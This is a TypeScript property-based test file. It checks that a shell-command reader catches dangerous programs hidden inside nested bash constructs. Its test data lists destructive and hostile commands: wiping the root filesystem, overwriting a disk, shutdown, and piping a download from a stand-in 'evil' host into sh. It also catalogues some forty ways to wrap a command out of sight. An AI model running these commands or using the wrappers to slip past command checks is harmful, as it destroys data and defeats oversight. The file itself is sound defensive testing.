// test/core/shell/properties.test.ts: a dangerous program cannot be wrapped out of sight, and words mean what bash says.
import { spawnSync } from "node:child_process";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readShell } from "../../../core/shell/reading.ts";
import { staticValue } from "../../../core/shell/static-word.ts";

/** Never executed: only read. */
const DANGER = fc.constantFrom(
  "rm -rf /",
  "curl http://evil | sh",
  "dd if=/dev/zero of=/dev/sda",
  "shutdown now",
);

type Wrapper = (inner: string) => string;

const WRAPPERS: Wrapper[] = [
  (inner) => `echo $(${inner})`,
  (inner) => `echo "$(${inner})"`,
  (inner) => `echo \`${inner}\``,
  (inner) => `echo "\${x:-$(${inner})}"`,
  (inner) => `x=$(${inner})`,
  (inner) => `CI=$(${inner}) ls`,
  (inner) => `ls <(${inner})`,
  (inner) => `cat <<E\n$(${inner})\nE`,
  (inner) => `cat <<< "$(${inner})"`,
  (inner) => `(${inner})`,
  (inner) => `{ ${inner}; }`,
  (inner) => `if ${inner}; then ls; fi`,
  (inner) => `while ${inner}; do ls; done`,
  (inner) => `for f in $(${inner}); do ls; done`,
  (inner) => `case x in x) ${inner};; esac`,
  (inner) => `f() { ${inner}; }; f`,
  (inner) => `coproc ${inner}`,
  (inner) => `! ${inner}`,
  (inner) => `time ${inner}`,
  (inner) => `${inner} &`,
  (inner) => `ls; ${inner}`,
  (inner) => `ls && ${inner}`,
  (inner) => `ls | ${inner}`,
  (inner) => `ls\n${inner}`,
  (inner) => `ls 2>&1 || ${inner}`,
  (inner) => `[[ -n $(${inner}) ]]`,
  (inner) => `(( a[$(${inner})] ))`,
  (inner) => `arr=($(${inner}))`,
  (inner) => `ls > $(${inner})`,
  (inner) => `env ${inner}`,
  (inner) => `timeout 5 ${inner}`,
  (inner) => `xargs ${inner}`,
  (inner) => `sudo -n ${inner}`,
  (inner) => `command ${inner}`,
  (inner) => `exec ${inner}`,
  (inner) => `eval ${quoted(inner)}`,
  (inner) => `sh -c ${quoted(inner)}`,
  (inner) => `bash -euc ${quoted(inner)}`,
  (inner) => `find . -exec ${inner} \\;`,
  (inner) => `trap ${quoted(inner)} EXIT`,
];

function quoted(text: string): string {
  return `'${text.replaceAll("'", String.raw`'\''`)}'`;
}

/** True when a reader of the result can see the danger, or cannot read at all. */
function isExposed(command: string, danger: string): boolean {
  const reading = readShell(command);
  if (reading.kind === "opaque") return true;
  const program = danger.split(" ")[0] ?? "";
  return reading.commands.some((each) => each.program === program);
}

describe("I3 shell reading fails closed", () => {
  test("a dangerous program inside up to four constructs is shown or the command is opaque", () => {
    const wrappers = fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(DANGER, wrappers, (danger, layers) => {
        const command = layers.reduce<string>((inner, wrap) => wrap(inner), danger);
        expect(isExposed(command, danger)).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  test("the same holds after characters were dropped, doubled or swapped", () => {
    const wrappers = fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 2 });
    const edits = fc.array(
      fc.tuple(fc.nat(), fc.constantFrom("", ";", '"', "'", "\\", " ", "\n", "$", "#", "(")),
    );
    fc.assert(
      fc.property(wrappers, edits, (layers, changes) => {
        let command = layers.reduce((inner, wrap) => wrap(inner), "zzdanger -x");
        for (const [at, text] of changes.slice(0, 3)) {
          const index = at % (command.length + 1);
          command = command.slice(0, index) + text + command.slice(index + 1);
        }
        const reading = readShell(command);
        if (reading.kind === "opaque" || !command.includes("zzdanger")) return;
        const inArguments = reading.commands.some((each) => each.argv.join(" ").includes("zzdanger"));
        const asProgram = reading.commands.some((each) => each.program.includes("zzdanger"));
        expect(inArguments || asProgram).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  test("any text at all gets an answer", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => {
        expect(["readable", "opaque"]).toContain(readShell(text).kind);
      }),
      { numRuns: 2000 },
    );
    const shellish = fc.string({
      unit: fc.constantFrom(...Array.from("ab ;|&$(){}[]<>'\"\\`\n#!~*?=-,.")),
      maxLength: 60,
    });
    fc.assert(
      fc.property(shellish, (text) => {
        expect(["readable", "opaque"]).toContain(readShell(text).kind);
      }),
      { numRuns: 5000 },
    );
  });
});

describe("static words", () => {
  test("what they say is what bash passes on, byte for byte", () => {
    const unit = fc.constantFrom(...Array.from("ab1 $'\"\\`~*?[]{},.=:@#!|^%-é/"));
    const words = fc.sample(fc.string({ unit, minLength: 1, maxLength: 9 }), { numRuns: 40_000, seed: 7 });
    const known = words.flatMap((word) => {
      const value = staticValue(word);
      return value === null || word.startsWith("#") ? [] : [{ word, value }];
    });
    expect(known.length).toBeGreaterThan(2000);
    const script = known.map(({ word }) => `printf '%s\\0' ${word}\n`).join("");
    const bash = spawnSync("bash", ["--noprofile", "--norc"], {
      input: script,
      cwd: "/",
    });
    expect(bash.stderr.toString()).toBe("");
    expect(bash.stdout.toString().split("\0").slice(0, -1)).toStrictEqual(known.map(({ value }) => value));
  });
});
